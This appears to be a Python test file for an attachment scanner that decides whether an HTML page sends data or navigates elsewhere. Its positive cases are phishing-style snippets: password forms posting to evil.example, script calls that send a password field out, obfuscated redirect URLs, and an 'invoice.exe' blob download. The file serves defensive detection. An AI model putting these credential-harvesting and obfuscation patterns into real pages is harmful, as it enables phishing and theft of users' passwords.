"""Whether an HTML attachment sends or goes anywhere (app.scan.documents.reaches_out, goes_nowhere): a page that
posts, fetches, navigates or loads a remote frame does; a page that only works inside the browser does not."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.scan.documents import goes_nowhere, reaches_out

PASSWORD = b'<input type="password" name="p">'


@pytest.mark.parametrize(
    "page",
    [
        b'<form method="POST" action="http://evil.example/login.php">' + PASSWORD,
        b"<FORM ACTION='HTTPS://evil.example/p'>" + PASSWORD,
        b'<form action="mailto:drop@evil.example">' + PASSWORD,
        b'<form action="//evil.example/p">' + PASSWORD,
        b'<base href="https://evil.example/"><form action="post.php">' + PASSWORD,
        PASSWORD + b'<button formaction="https://evil.example/p">go</button>',
        PASSWORD + b'<iframe src="https://evil.example/login"></iframe>',
        PASSWORD + b'<script src="https://cdn.evil.example/x.js"></script>',
        b'<meta http-equiv="refresh" content="0;url=https://evil.example">',
        b"<script>location='https://evil.example'</script>",
        PASSWORD + b"<script>fetch(u,{method:'POST',body:p.value})</script>",
        PASSWORD + b"<script>var x=new XMLHttpRequest();x.open('POST',u)</script>",
        PASSWORD + b"<script>navigator.sendBeacon(u,p.value)</script>",
        PASSWORD + b"<script>new Image().src=u+p.value</script>",
        PASSWORD + b'<button onclick="document.forms[0].submit()">go</button>',
        PASSWORD + b'<a href="javascript:window.open(u)">go</a>',
        b'<script>window.location.href=atob("' + base64.b64encode(b"http://203.0.113.9/post.php") + b'")</script>',
        b'<script>var u=atob("' + base64.b64encode(b"https://evil.example/p") + b'");go(u)</script>',
        b'<script>var u="\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x65\\x76";</script>',
        b"<script>var u=String.fromCharCode(104,116,116,112,58,47,47,101);</script>",
        b"<script>var u=unescape('%68%74%74%70%73%3a%2f%2f');</script>",
        b"<script>var b=new Blob([data]);a.href=URL.createObjectURL(b);a.download='invoice.exe'</script>",
    ],
)
def test_pages_that_send_or_go_somewhere(page):
    assert reaches_out(page)
    assert not goes_nowhere(page)


@pytest.mark.parametrize(
    "page",
    [
        b"<form method=post>" + PASSWORD + b"</form>",
        b'<form action="">' + PASSWORD + b"</form>",
        b'<form action="#">' + PASSWORD + b"</form>",
        PASSWORD + b'<button onclick="openDoc()">OK</button><script>function openDoc(){/* decrypts here */}</script>',
        PASSWORD + b'<script>var sealed="' + base64.b64encode(bytes(range(256)) * 40) + b'";</script>',
        b"<p>Invoice attached</p>",
        b"",
        b"<script",
    ],
)
def test_pages_that_work_only_inside_the_browser(page):
    assert not reaches_out(page)
    assert goes_nowhere(page)


def test_a_page_that_only_links_out_is_not_a_sender_but_goes_somewhere():
    page = PASSWORD + b'<a href="https://www.card.example/">card.example</a>'
    assert not reaches_out(page)
    assert not goes_nowhere(page)


@given(st.binary(max_size=400))
def test_never_raises_on_any_bytes(data):
    assert reaches_out(data) in (True, False)
    assert goes_nowhere(data) in (True, False)


@given(st.text(alphabet="<>=\"'/:scriptformaction\\x%0123456789abAB+ ", max_size=300))
def test_never_raises_on_markup_like_text(text):
    reaches_out(text.encode())
